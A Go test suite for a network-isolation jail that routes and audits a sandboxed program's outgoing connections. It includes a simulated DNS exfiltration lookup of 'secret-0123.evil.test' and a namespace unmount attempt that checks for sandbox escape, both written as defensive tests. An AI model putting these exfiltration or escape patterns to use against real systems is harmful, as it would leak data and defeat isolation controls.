package isolate

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/juliendoutre/proxaudit/enforce/isolate/capture"
	"github.com/juliendoutre/proxaudit/internal/child"
)

func TestExitCode(t *testing.T) {
	for name, c := range map[string]struct {
		argv []string
		want int
	}{
		"success":      {[]string{"true"}, 0},
		"failure":      {[]string{"sh", "-c", "exit 7"}, 7},
		"a signal":     {[]string{"sh", "-c", "kill -TERM $$"}, 128 + 15},
		"killed":       {[]string{"sh", "-c", "kill -KILL $$"}, 128 + 9},
		"orphans":      {[]string{"sh", "-c", "(sh -c 'exit 3' &) ; exit 4"}, 4},
		"in directory": {[]string{"sh", "-c", "test $(pwd) = " + wd(t)}, 0},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJail(t, NetnsOptions{})
			if out, code := j.output(t, Command{Argv: c.argv}); code != c.want {
				t.Errorf("code %d, want %d\n%s", code, c.want, out)
			}
		})
	}
}

func wd(t *testing.T) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

func TestCommandThatDoesNotStart(t *testing.T) {
	plain := filepath.Join(t.TempDir(), "plain")
	if err := os.WriteFile(plain, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		argv []string
		want int
	}{
		"not found":       {[]string{"no-such-program"}, 127},
		"no such path":    {[]string{"/no/such/program"}, 127},
		"not executable":  {[]string{plain}, 126},
		"a directory":     {[]string{"/tmp"}, 126},
		"nothing at all":  {nil, 125},
		"an empty string": {[]string{""}, 127},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJail(t, NetnsOptions{})
			_, err := j.Run(t.Context(), Command{Argv: c.argv, Env: []string{"PATH=/usr/bin"}})
			var start *child.StartError
			if !errors.As(err, &start) || start.Code != c.want {
				t.Errorf("error %v, want a StartError of code %d", err, c.want)
			}
		})
	}
}

func TestArgumentsAndEnvironmentAreBytes(t *testing.T) {
	odd := "a b\n'\"$\\\xff\xfe"
	j := newJail(t, NetnsOptions{})
	out, code := j.output(t, Command{
		Argv: []string{"sh", "-c", `printf '%s|%s|%s' "$1" "$ODD" "${#LONG}"`, "sh", odd},
		Env:  []string{"PATH=/bin:/usr/bin", "ODD=" + odd, "LONG=" + strings.Repeat("x", 100<<10), "LC_ALL=C"},
	})
	if want := odd + "|" + odd + "|102400"; out != want || code != 0 {
		t.Errorf("got %q, %d; want %q", out, code, want)
	}
}

func TestDaemonDiesWithTheRun(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	// output reads until the daemon, too, has let go of the pipe.
	begun := time.Now()
	if _, code := j.shell(t, "trap '' TERM; setsid sh -c 'trap \"\" TERM; sleep 1000' & exit 5"); code != 5 {
		t.Errorf("code %d, want the command's own", code)
	}
	if took := time.Since(begun); took > 100*time.Second {
		t.Errorf("took %v: the daemon was waited for", took)
	}
}

func TestContextEndsTheRun(t *testing.T) {
	for name, c := range map[string]struct {
		script string
		want   int
	}{
		"a command that obeys":  {"echo up; exec sleep 1000", 128 + 15},
		"a command that cleans": {"trap 'exit 9' TERM; echo up; while :; do sleep 0.01; done", 9},
	} {
		t.Run(name, func(t *testing.T) {
			j := newJail(t, NetnsOptions{})
			j.grace = patience
			ctx, cancel := context.WithCancelCause(context.Background())
			r, w, err := os.Pipe()
			if err != nil {
				t.Fatal(err)
			}
			defer r.Close()
			stopped := errors.New("stopped by the test")
			go func() {
				_, _ = r.Read(make([]byte, 10))
				cancel(stopped)
			}()
			code, err := j.Run(ctx, Command{Argv: []string{"sh", "-c", c.script}, Env: os.Environ(), Stdout: w})
			w.Close()
			if code != c.want || !errors.Is(err, stopped) {
				t.Errorf("%d, %v; want %d and the cause", code, err, c.want)
			}
		})
	}
}

func TestSignalsAreHandedOn(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	go func() {
		_, _ = r.Read(make([]byte, 10))
		_ = syscall.Kill(os.Getpid(), syscall.SIGUSR1)
	}()
	code, err := j.Run(t.Context(), Command{
		Argv: []string{"sh", "-c", "trap 'exit 9' USR1; echo up; while :; do sleep 0.01; done"},
		Env:  os.Environ(), Stdout: w,
	})
	w.Close()
	if code != 9 || err != nil {
		t.Errorf("%d, %v; want 9", code, err)
	}
}

func TestCapture(t *testing.T) {
	for _, kind := range []capture.Kind{capture.TProxy, capture.Redirect, capture.Ports} {
		t.Run(string(kind), func(t *testing.T) {
			j := newJail(t, NetnsOptions{}, kind)
			j.proxy(answer)
			targets := []string{"192.0.2.7:443", "[2001:db8::7]:443", "ok.test:8080", "198.18.0.1:" + itoa(int(j.port)), "127.0.0.1:" + itoa(int(j.port))}
			if kind != capture.Ports {
				targets = append(targets, "192.0.2.7:50001", "[2001:db8::7]:65535", "ok.test:1")
			}
			out, _ := j.output(t, inside("dial all", "TARGETS="+strings.Join(targets, " ")))
			if strings.Count(out, "answer: proxied") != len(targets) {
				t.Errorf("not everything was captured:\n%s", out)
			}
			got := strings.Join(j.captured(), "\n")
			for _, want := range targets[:2] {
				if !strings.Contains(got, want) {
					t.Errorf("nothing arrived as a connection to %s; there were\n%s", want, got)
				}
			}
			if !strings.Contains(got, ":8080 ok.test") {
				t.Errorf("no connection to a synthetic address of ok.test; there were\n%s", got)
			}
		})
	}
}

func dialAll() error {
	for target := range strings.FieldsSeq(os.Getenv("TARGETS")) {
		if err := talk("tcp", target); err != nil {
			fmt.Println(target, err)
		}
	}
	return nil
}

func TestPortsThatAreNotCapturedAreRefused(t *testing.T) {
	j := newJail(t, NetnsOptions{}, capture.Ports)
	j.proxy(answer)
	if out, _ := j.output(t, inside("dial all", "TARGETS=192.0.2.7:50001")); !strings.Contains(out, "connection refused") {
		t.Errorf("got %s", out)
	}
}

func TestNoConnectionReachesItself(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	j.proxy(answer)
	if out, _ := j.output(t, inside("dial oneself")); !strings.Contains(out, "answer: proxied") {
		t.Errorf("got %s", out)
	}
}

func dialOneself() error {
	d := net.Dialer{LocalAddr: &net.TCPAddr{Port: 50123}}
	c, err := d.Dial("tcp", "192.0.2.7:50123")
	if err != nil {
		return err
	}
	_ = c.SetDeadline(time.Now().Add(patience))
	data, err := io.ReadAll(c)
	fmt.Printf("answer: %s", data)
	return err
}

func TestManyConnectionsAtOnce(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	j.proxy(answer)
	out, _ := j.output(t, inside("dial at once"))
	if !strings.Contains(out, "200 answers") || len(j.captured()) != 200 {
		t.Errorf("%s; %d arrived", out, len(j.captured()))
	}
}

func dialAtOnce() error {
	var wg sync.WaitGroup
	var mu sync.Mutex
	answers := 0
	one := net.Dialer{FallbackDelay: -1} // no second connection where the first takes long
	for i := range 200 {
		wg.Go(func() {
			c, err := one.Dial("tcp", fmt.Sprintf("h%d.test:443", i))
			if err != nil {
				fmt.Println(err)
				return
			}
			defer c.Close()
			data, err := io.ReadAll(c)
			if err == nil && string(data) == "proxied\n" {
				mu.Lock()
				defer mu.Unlock()
				answers++
			}
		})
	}
	wg.Wait()
	fmt.Println(answers, "answers")
	return nil
}

func TestServerInside(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	j.proxy(answer)
	for _, line := range strings.Split(first(j.output(t, inside("serve and use"))), "\n") {
		if !strings.Contains(line, "inside") && line != "done" {
			t.Errorf("got %q", line)
		}
	}
	if got := j.captured(); len(got) != 0 {
		t.Errorf("the proxy saw %v", got)
	}
}

func first[A, B any](a A, _ B) A { return a }

func serveAndUse() error {
	for network, addr := range map[string]string{"tcp4": "127.0.0.1:0", "tcp6": "[::1]:0", "tcp": "localhost:0"} {
		l, err := net.Listen(network, addr)
		if err != nil {
			return err
		}
		go func() {
			c, err := l.Accept()
			if err == nil {
				fmt.Fprintln(c, "inside")
				c.Close()
			}
		}()
		c, err := net.Dial("tcp", strings.Replace(l.Addr().String(), "[::]", "localhost", 1))
		if err != nil {
			return err
		}
		data, _ := io.ReadAll(c)
		fmt.Printf("%s", data)
	}
	return nil
}

func TestQuestionsAreEvents(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	out, _ := j.output(t, inside("ask"))
	j.mu.Lock()
	defer j.mu.Unlock()
	if len(j.askers) == 0 || !slices.Contains(j.askers[0].Argv, "ask") {
		t.Errorf("the question was asked by %+v", j.askers)
	}
	for _, want := range []string{"203.0.113.53", "8.8.8.8"} {
		found := false
		for _, q := range j.asked {
			found = found || q.Name == "secret-0123.evil.test" && q.Server.Addr().String() == want
		}
		if !found {
			t.Errorf("no question to %s was recorded\n%s", want, out)
		}
	}
}

func ask() error {
	for _, server := range []string{"203.0.113.53:53", "8.8.8.8:53"} {
		r := net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, network, server)
		}}
		got, err := r.LookupHost(context.Background(), "secret-0123.evil.test")
		fmt.Println(got, err)
	}
	return nil
}

func TestWhoAsked(t *testing.T) {
	for _, kind := range []capture.Kind{capture.TProxy, capture.Redirect} {
		t.Run(string(kind), func(t *testing.T) { testWhoAsked(t, kind) })
	}
}

func testWhoAsked(t *testing.T, kind capture.Kind) {
	j := newJail(t, NetnsOptions{}, kind)
	found := make(chan string, 1)
	j.proxy(func(c net.Conn) {
		p := j.Attribute(c.RemoteAddr(), c.LocalAddr())
		if p == nil {
			found <- "nobody"
		} else {
			found <- fmt.Sprintf("%v %v %d parents", p.Argv, p.PID > 1, len(p.Parents))
		}
		answer(c)
	})
	c := inside("start one that dials", "TARGETS=192.0.2.7:443")
	j.output(t, c)
	select { // it was answered after it had been found, and waited for the answer
	case got := <-found:
		if want := "[/proc/self/exe attempt dial all] true 1 parents"; got != want {
			t.Errorf("found %q, want %q", got, want)
		}
	default:
		t.Error("nothing arrived at the proxy")
	}
}

func startOneThatDials() error {
	cmd := exec.Command("/proc/self/exe", attemptArg, "dial all")
	return cmd.Run()
}

func TestProgramsOfTheOrdinaryKindWork(t *testing.T) {
	j := newJail(t, NetnsOptions{})
	out, code := j.shell(t, `
		test "$(id -u)" = `+itoa(os.Getuid())+` || echo wrong user
		mktemp -d >/dev/null || echo no temporary directory
		echo x > /dev/null || echo no null device
		test -r /dev/urandom || echo no random device
		hostname >/dev/null || echo no host name
		ps ax >/dev/null || echo no processes
		mkfifo "$(mktemp -u)" || echo no fifo
		echo true | script -qec true /dev/null >/dev/null || echo no terminals
	`)
	if out != "" || code != 0 {
		t.Errorf("%d: %s", code, out)
	}
}

func TestUserNamespacesCanBeAllowed(t *testing.T) {
	out := newOutside(t)
	j := newJail(t, NetnsOptions{UserNamespaces: true})
	said, _ := j.output(t, inside("a user namespace"))
	if said != "done" {
		t.Fatalf("got %q", said)
	}
	// What hides stays where it is, for someone with all privileges in a
	// namespace of their own.
	j = newJail(t, NetnsOptions{UserNamespaces: true})
	said, _ = j.output(t, inside("unmount in a namespace", out.env...))
	if !strings.Contains(said, "EINVAL") && !strings.Contains(said, "EPERM") {
		t.Errorf("got %q", said)
	}
	if seen := out.all(); seen != "" {
		t.Errorf("ESCAPED: the host's servers saw %s", seen)
	}
}

func TestNothingIsLeftOpen(t *testing.T) {
	before := openFiles(t)
	for range 3 {
		j := newJail(t, NetnsOptions{})
		j.shell(t, "true")
		j.Close()
	}
	after := openFiles(t)
	for _, f := range after {
		if !slices.Contains(before, f) {
			t.Errorf("left open: %s", f)
		}
	}
}

func openFiles(t *testing.T) []string {
	t.Helper()
	entries, err := os.ReadDir("/proc/self/fd")
	if err != nil {
		t.Fatal(err)
	}
	var all []string
	for _, e := range entries {
		link, err := os.Readlink("/proc/self/fd/" + e.Name())
		if err == nil && !strings.HasPrefix(link, "/proc/") {
			all = append(all, e.Name()+" "+link)
		}
	}
	return all
}
